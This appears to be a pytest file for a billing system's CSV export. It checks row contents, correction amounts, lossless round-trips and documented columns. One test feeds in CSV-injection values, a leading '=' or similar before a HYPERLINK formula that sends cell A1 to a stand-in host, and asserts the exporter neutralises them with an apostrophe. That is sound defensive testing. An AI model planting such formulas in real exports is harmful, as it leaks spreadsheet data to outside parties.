"""A spreadsheet shows what the record says, and runs nothing of it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from metering.adjust import Correction, Kind, corrected
from metering.chain import Head, chained
from metering.sheet import COLUMNS, HEADER, line
from tests.metering.samples import record

BODY = chained(Head(), record(), "2026-02-02T02:40:18.012Z")


def read(body: dict[str, Any]) -> dict[str, str]:
    """As any reader of RFC 4180 has it."""
    text = HEADER + line(orjson.dumps(body).decode())
    (row,) = csv.DictReader(io.StringIO(text, newline=""), strict=True)
    assert list(row) == list(COLUMNS)
    return row


def test_a_row_has_what_the_record_has() -> None:
    row = read(BODY)
    assert (row["seq"], row["kind"], row["department"]) == ("1", "original", "全科")
    assert (row["voice_s"], row["video_s"], row["charge_fen"]) == ("5", "10", "459")
    assert (row["corrects"], row["waived"]) == ("", "false")
    assert row["hash"] == BODY["hash"]


def test_amounts_of_a_correction_stay_numbers() -> None:
    """A minus sign is no formula: sums over the column must be right."""
    wanted = Correction(BODY["record_id"], Kind.VOID, "ticket:1", "clerk")
    void = chained(Head(), corrected([BODY], wanted), "2026-02-02T02:41:00.000Z")
    row = read(void)
    assert (row["charge_fen"], row["patient_fen"], row["net_charge_fen"]) == ("-459", "-459", "0")
    assert (row["corrects"], row["reason"]) == (BODY["record_id"], "ticket:1")


@pytest.mark.parametrize("first", "=+-@'＝＋－＠")
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(first: str) -> None:
    """https://owasp.org/www-community/attacks/CSV_Injection"""
    text = first + 'HYPERLINK("http://x/?"&A1,"y")'
    row = read({**BODY, "department": text})
    assert row["department"] == "'" + text


@given(text=st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=20))
def test_every_text_can_be_had_back(text: str) -> None:
    cell = read({**BODY, "department": text})["department"]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert cell.removeprefix("'") == text if cell.startswith("'") else cell == text


def test_the_columns_are_those_of_the_document() -> None:
    text = (Path(__file__).parents[2] / "docs" / "metering.md").read_text(encoding="utf-8")
    table = text.partition("| Column | Meaning |")[2].partition("\n\n")[0]
    first_cells = "".join(row[: row.find(" | ")] for row in table.splitlines())
    assert re.findall(r"`(\w+)`", first_cells) == list(COLUMNS)
